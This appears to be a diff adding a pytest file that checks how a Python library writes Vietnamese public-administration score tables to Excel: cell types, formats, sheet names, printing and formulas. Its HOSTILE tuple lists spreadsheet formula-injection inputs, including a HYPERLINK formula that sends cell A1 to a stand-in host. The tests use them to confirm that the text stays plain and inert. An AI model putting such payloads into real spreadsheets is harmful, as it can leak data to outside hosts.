@@ -1,0 +1,282 @@
+"""Excel files, read back with another library: what sort each cell is, and how the sheet shows and prints."""
+
+import io
+import sys
+import zipfile
+from dataclasses import replace
+from datetime import date, datetime
+from decimal import Decimal
+from typing import Any
+
+import pytest
+
+import ctscore
+from ctscore.book import Book
+from ctscore.document import Difference, Kind, Ref, Row, Share, Spark, Sum, Value
+from ctscore.findings import Refusal
+from ctscore.render import Canvas, render
+from ctscore.render.excel.formulas import Place, letters, runs, written
+from ctscore.render.excel.text import MOST_LETTERS, sheet_names
+from ctscore.views.gaps import gaps_document
+from ctscore.views.totals import tree_document
+from tests.render.excel import column, document, one_row, opened, table
+
+HOSTILE = (
+    '=HYPERLINK("http://a.example/?x="&A1,"bấm")',
+    "=1+1",
+    "{=1+1}",
+    "+1",
+    "-2",
+    "@x",
+    "\t=1",
+    "\r\n=1",
+    "  =1",
+    "http://a.example",
+    "1.10",
+    "9.10",
+    "2022-01-02",
+    "TRUE",
+    "#REF!",
+)
+
+
+def rendered(*sections: Any) -> bytes:
+    return render(document(*sections), "xlsx", Canvas())
+
+
+def sheet(*sections: Any, values: bool = False) -> Any:
+    return opened(rendered(*sections), values=values).worksheets[0]
+
+
+@pytest.fixture(scope="module")
+def gaps(book: Book) -> Any:
+    """The losses of PAR-INDEX 2022 in Vietnamese, as they are read back."""
+    found = gaps_document(book, 2022, ctscore.gaps(book, 2022, "PAR-INDEX"), "vi")
+    return opened(render(found, "xlsx", Canvas())).worksheets[0]
+
+
+def test_each_kind_of_value_is_a_cell_of_its_sort() -> None:
+    kinds = [*Kind]
+    values: dict[Kind, Value] = {
+        Kind.CODE: "9.10",
+        Kind.TEXT: "chữ",
+        Kind.POINTS: Decimal("0.709967554"),
+        Kind.CHANGE: Decimal("-0.5"),
+        Kind.PERCENT: Decimal("12.5"),
+        Kind.COUNT: 63,
+        Kind.DATE: date(2023, 6, 6),
+        Kind.REF: Ref("so-noi-vu", "Sở Nội vụ"),
+        Kind.REFS: (Ref("a", "Sở A"), Ref("b", "Sở B")),
+    }
+    row = Row({kind.value: values[kind] for kind in kinds})
+    cells = sheet(table([column(kind.value, kind) for kind in kinds], row))[3][: len(kinds)]
+    assert [(cell.data_type, cell.value, cell.number_format) for cell in cells] == [
+        ("s", "9.10", "@"),
+        ("s", "chữ", "General"),
+        ("n", 0.709967554, "0.0000"),
+        ("n", -0.5, "+0.0000;-0.0000;0.0000"),
+        ("n", 0.125, "0.00%"),
+        ("n", 63, "0"),
+        ("d", datetime(2023, 6, 6), "dd/mm/yyyy"),
+        ("s", "Sở Nội vụ", "General"),
+        ("s", "Sở A; Sở B", "General"),
+    ]
+
+
+def test_figures_as_printed_keep_the_digits_of_the_source() -> None:
+    columns = [column("a", Kind.POINTS, as_printed=True)]
+    cells = sheet(table(columns, *(one_row(a=Decimal(text)) for text in ("79.10", "86.11", "4"))))["A"][2:]
+    assert [(cell.value, cell.number_format) for cell in cells] == [(79.1, "0.00"), (86.11, "0.00"), (4, "0")]
+
+
+def test_what_is_not_known_is_an_empty_cell() -> None:
+    columns = [column("a", Kind.CODE), column("b", Kind.POINTS)]
+    found = sheet(table(columns, one_row(a="1", b=None), one_row(a="2", b=Decimal(0))))
+    assert (found["B3"].value, found["B4"].value) == (None, 0)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.CODE, Kind.REF, Kind.REFS])
+def test_text_is_never_a_formula_a_number_or_a_link(text: str, kind: Kind) -> None:
+    others: dict[Kind, Value] = {Kind.REF: Ref("x", text), Kind.REFS: (Ref("x", text),)}
+    section = table([column("a", kind)], one_row(a=others.get(kind, text)), title=text, notes=[text])
+    section = replace(section, columns=(replace(section.columns[0], label=text),))
+    book = opened(rendered(section, replace(section, layout="record")))
+    for found in book.worksheets:
+        cells = [cell for row in found.iter_rows() for cell in row if cell.value is not None]
+        assert len(cells) == 4  # title, header or label, value, note
+        assert {cell.data_type for cell in cells} == {"s"}
+        assert {" ".join(cell.value.split()) for cell in cells} == {" ".join(text.split())}
+        assert not any(cell.hyperlink for cell in cells)
+        begins = text.lstrip()[0] in "=+-@"
+        assert {bool(cell.quotePrefix) for cell in cells} == {begins}
+
+
+def test_no_part_of_the_file_holds_a_formula_or_link_where_names_look_like_one() -> None:
+    section = table([column("a", Kind.TEXT)], *(one_row(a=text) for text in HOSTILE))
+    with zipfile.ZipFile(io.BytesIO(rendered(section))) as parts:
+        text = b"".join(parts.read(name) for name in parts.namelist() if "worksheets" in name)
+    assert b"<f>" not in text
+    assert b"hyperlink" not in text.lower()
+
+
+@pytest.mark.parametrize("odd", ["\x00", "\x07", "\x1b[31m", "\ufffe", "\uffff", "\ud800", "\u202e", "\x85"])
+def test_control_characters_do_not_break_the_file(odd: str) -> None:
+    section = table([column("a", Kind.TEXT)], one_row(a=f"trước{odd}sau"), title=f"T{odd}", notes=[odd])
+    value = sheet(section)["A3"].value
+    assert value.startswith("trước")
+    assert value.endswith("sau")
+    assert odd not in value
+
+
+def test_what_looks_like_an_escape_is_kept_as_it_is() -> None:
+    with zipfile.ZipFile(
+        io.BytesIO(rendered(table([column("a", Kind.TEXT)], one_row(a="_x0041_"))))
+    ) as parts:
+        assert b"_x005F_x0041_" in parts.read("xl/sharedStrings.xml")
+
+
+def test_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
+    columns = [column("a", Kind.TEXT)]
+    found = sheet(
+        table(columns, one_row(a="ă" * MOST_LETTERS), one_row(a="ă" * 40_000), one_row(a="😀" * 20_000))
+    )
+    whole, long, wide = (found[f"A{row}"].value for row in (3, 4, 5))
+    assert whole == "ă" * 32_767
+    assert long == "ă" * 32_766 + "…"
+    assert wide == "😀" * 16_383 + "…"
+
+
+def test_names_of_sheets_are_those_that_excel_takes() -> None:
+    wanted = ["A/B: [C]*?\\", "History", "", "'x'", "Ten", "TEN", "ten", "dài" * 20, "dài" * 20, "😀" * 20]
+    names = sheet_names(wanted)
+    assert names[:7] == ["A B   C", "History (2)", "–", "x", "Ten", "TEN (2)", "ten (3)"]
+    assert names[7] == "dài" * 10 + "…"
+    assert names[8] == ("dài" * 10)[:26] + "… (2)"
+    assert all(len(name.encode("utf-16-le")) <= 62 for name in names)
+    sections = [table([column("a", Kind.TEXT)], title=title) for title in wanted]
+    assert opened(rendered(*sections)).sheetnames == names
+
+
+def test_the_same_answer_is_the_same_file(book: Book) -> None:
+    found = gaps_document(book, 2022, ctscore.gaps(book, 2022), "vi")
+    assert render(found, "xlsx", Canvas()) == render(found, "xlsx", Canvas(80, colour=True, boxes=True))
+
+
+def test_the_largest_loss_stands_first(gaps: Any) -> None:
+    """5.4 lost all of its 1.5 points: 1.5 / 13.3876 = 11.2044… percent of all loss."""
+    header = [cell.value for cell in gaps[2]]
+    row = dict(zip(header, (cell.value for cell in gaps[3]), strict=True))
+    assert (row["Mã"], row["Điểm chuẩn"], row["Điểm đạt"], row["Điểm mất"]) == ("5.4", 1.5, 0, 1.5)
+    assert row["% tổng mất"] == pytest.approx(0.112044, abs=1e-6)
+    assert row["Chủ trì"] == "Sở Nội vụ"
+    assert sum(cell.value for cell in gaps["F"][2:44]) == pytest.approx(13.3876, abs=1e-9)
+    assert gaps["A46"].value == "42 tiêu chí mất 13,3876 điểm."
+
+
+def test_a_sheet_is_ready_to_be_filtered_and_printed(gaps: Any) -> None:
+    assert gaps.title == "PAR-INDEX 2022 · Cần Thơ · điể…"
+    assert gaps.freeze_panes == "A3"
+    assert gaps.auto_filter.ref == "A2:K44"
+    assert gaps.print_title_rows == "$2:$2"
+    assert (gaps.page_setup.orientation, gaps.page_setup.paperSize) == ("landscape", 9)
+    assert (gaps.sheet_properties.pageSetUpPr.fitToPage, gaps.page_setup.fitToHeight) == (True, 0)
+    (rule,) = gaps.conditional_formatting
+    assert str(rule.sqref) == "F3:F44"
+    assert rule.rules[0].type == "dataBar"
+
+
+def test_no_bar_stands_beside_the_whole(book: Book) -> None:
+    found = tree_document(book, 2022, ctscore.totals(book, 2022, "PAR-INDEX", depth=9), "en")
+    tree = opened(render(found, "xlsx", Canvas())).worksheets[0]
+    (rule,) = tree.conditional_formatting
+    assert str(rule.sqref) == "E4:E54"
+    assert [tree[f"B{row}"].alignment.indent for row in (3, 4, 5, 6)] == [0, 1, 2, 3]
+    assert [tree[f"B{row}"].font.b for row in (3, 4, 5, 6)] == [True, True, False, False]
+
+
+def test_rows_are_high_enough_for_their_names(book: Book) -> None:
+    """At 15 points a line, and at nine tenths of the unit of width for a letter of the usual font."""
+    found = tree_document(book, 2022, ctscore.totals(book, 2022, depth=9), "vi")
+    for tree in opened(render(found, "xlsx", Canvas())).worksheets:
+        width = tree.column_dimensions["B"].width
+        for row in range(3, tree.max_row + 1):
+            name = tree[f"B{row}"].value
+            if name is None:
+                continue  # below the table
+            fits = tree.row_dimensions[row].height // 15 * width
+            assert fits >= 0.9 * len(name), name
+
+
+def test_figures_and_codes_are_never_cut(gaps: Any) -> None:
+    for letter, longest in {"B": "8.1.4", "D": "1.5000", "F": "1.5000", "H": "100.00%"}.items():
+        assert gaps.column_dimensions[letter].width >= len(longest) + 1
+
+
+def test_columns_for_programs_and_empty_ones_are_left_out() -> None:
+    columns = [column("a", Kind.CODE), column("b", Kind.TEXT, detail=True), column("c", Kind.POINTS, spare=1)]
+    found = sheet(table(columns, one_row(a="1", b="x", c=None)))
+    assert [cell.value for cell in found[2] if cell.value] == ["a"]
+
+
+def test_a_record_is_read_downwards() -> None:
+    columns = [column("mã", Kind.CODE), column("điểm", Kind.POINTS), column("thiếu", Kind.TEXT)]
+    section = replace(table(columns, one_row(mã="2.4", điểm=Decimal("3.5")), notes=["hết"]), layout="record")
+    found = sheet(replace(section, rows=(*section.rows, *section.rows)))
+    assert [(row[0].value, row[1].value) for row in found.iter_rows(min_row=2, max_col=2)] == [
+        ("mã", "2.4"),
+        ("điểm", 3.5),
+        (None, None),
+        ("mã", "2.4"),
+        ("điểm", 3.5),
+        (None, None),
+        ("hết", None),
+    ]
+    assert found.auto_filter.ref is None
+
+
+def test_a_section_without_rows_has_its_notes() -> None:
+    found = sheet(table([column("a", Kind.CODE)], notes=["Không có số liệu."]))
+    assert [row[0].value for row in found.iter_rows(max_col=1)] == ["T", "Không có số liệu."]
+
+
+def test_a_series_is_drawn_small_below_its_table() -> None:
+    section = table([column("a", Kind.POINTS)], one_row(a=Decimal(1)))
+    spark = Spark("2016–2018", ((Decimal(1),), (Decimal(2), None, Decimal(3))))
+    assert sheet(replace(section, spark=spark))["A5"].value == "2016–2018: ▄ │ ▁·█"
+
+
+def test_a_formula_keeps_the_figure_that_it_comes_to() -> None:
+    columns = [column("a", Kind.POINTS), column("b", Kind.POINTS), column("c", Kind.PERCENT)]
+    whole = Row(
+        {"a": Decimal("0.3"), "b": Decimal("0.2"), "c": Decimal(100)},
+        formulas={"a": Sum((1, 2)), "b": Difference("a", "b"), "c": Share("a", 0)},
+    )
+    parts = [one_row(a=Decimal("0.1"), b=None, c=None), one_row(a=Decimal("0.2"), b=None, c=None)]
+    section = table(columns, whole, *parts)
+    live, kept = sheet(section), sheet(section, values=True)
+    assert [cell.value for cell in live[3][:3]] == ["=SUM(A4:A5)", "=A3-B3", "=IF(A3=0,0,A3/A3)"]
+    assert [cell.value for cell in kept[3][:3]] == [0.3, 0.2, 1]
+    assert [cell.number_format for cell in live[3][:3]] == ["0.0000", "0.0000", "0.00%"]
+
+
+def test_other_formats_write_the_figure_and_not_the_formula() -> None:
+    row = Row({"a": Decimal("0.3")}, formulas={"a": Sum((1,))})
+    section = table([column("a", Kind.POINTS)], row, one_row(a=Decimal("0.3")))
+    assert render(document(section), "csv", Canvas()) == "section,a\nt,0.3\nt,0.3\n"
+
+
+def test_runs_of_rows_are_written_as_ranges() -> None:
+    assert list(runs((1, 2, 3, 5, 7, 8))) == [(1, 3), (5, 5), (7, 8)]
+    place = Place(("code", "max"), 4)
+    assert written(Sum((1, 2, 3, 5)), 0, "max", place) == "=SUM(B5:B7,B9)"
+    assert [letters(at) for at in (0, 25, 26, 51, 52, 701, 702)] == ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]
+
+
+def test_without_the_library_the_refusal_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
+    with pytest.raises(Refusal) as refused:
+        rendered(table([column("a", Kind.TEXT)], one_row(a="x")))
+    assert refused.value.text("en") == (
+        'the format xlsx needs the library XlsxWriter\ninstall it: pip install "ctscore[excel]"'
+    )
